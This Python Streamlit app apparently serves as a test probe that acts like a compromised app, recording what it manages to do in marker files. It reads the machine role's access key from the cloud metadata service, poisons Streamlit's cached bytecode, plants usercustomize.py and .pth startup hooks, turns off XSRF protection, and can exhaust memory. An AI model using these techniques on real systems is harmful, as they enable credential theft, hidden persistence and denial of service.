"""An app that somebody has taken over: asks for the role, and does what a file in its state directory says."""

import contextlib
import importlib.util
import json
import marshal
import site
import socket
import subprocess
import urllib.request
from pathlib import Path

import streamlit as st

METADATA = "http://169.254.169.254/latest"
STATE = Path("/var/lib/streamlit")


def access_key() -> str:
    lifetime = {"X-aws-ec2-metadata-token-ttl-seconds": "60"}
    try:
        # Whoever is kept out hears nothing, and waits no longer for it than this.
        socket.create_connection(("169.254.169.254", 80), timeout=1).close()
        token = ask("api/token", "PUT", lifetime)
        role = ask("meta-data/iam/security-credentials/machine-role", "GET", {"X-aws-ec2-metadata-token": token})
    except OSError as error:
        return f"no answer: {getattr(error, 'reason', error)}"
    return str(json.loads(role)["AccessKeyId"])


def ask(path: str, method: str, headers: dict[str, str]) -> str:
    request = urllib.request.Request(f"{METADATA}/{path}", method=method, headers=headers)  # noqa: S310
    return str(urllib.request.urlopen(request, timeout=30).read().decode())  # noqa: S310


def leaves(name: str) -> str:
    """Give a line that leaves a trace when it is run."""
    return f"open({str(STATE / name)!r}, 'w').close()\n"


def linger() -> None:
    """Leave code wherever the next start might find it."""
    source = Path(st.__file__)
    bytecode = Path(importlib.util.cache_from_source(str(source)))
    poisoned = compile(source.read_text() + "\n" + leaves("ran-bytecode"), str(source), "exec")
    with contextlib.suppress(OSError):
        bytecode.parent.mkdir(parents=True, exist_ok=True)
        bytecode.write_bytes(bytecode.read_bytes()[:16] + marshal.dumps(poisoned))
    packages = Path(site.getusersitepackages())
    packages.mkdir(parents=True, exist_ok=True)
    (packages / "usercustomize.py").write_text(leaves("ran-usercustomize"))
    (packages / "lingering.pth").write_text(f"import os; {leaves('ran-path-file')}")
    settings = Path.home() / ".streamlit"
    settings.mkdir(exist_ok=True)
    (settings / "config.toml").write_text("[server]\nenableXsrfProtection = false\n")
    (STATE / "lingers").touch()


def use_up_the_memory() -> None:
    hoard = []
    while True:
        hoard.append(b"x" * (1 << 20))


# A program that the app starts is not of its environment.
subprocess.run(["/usr/bin/python3", "-c", ""], check=True)
outcome = {"access key": access_key(), "checks forgery": st.get_option("server.enableXsrfProtection")}
(STATE / "outcome.json").write_text(json.dumps(outcome))
for order in (linger, use_up_the_memory):
    said = STATE / f"do-{order.__name__}"
    if said.exists():
        said.unlink()
        order()
st.write("done")
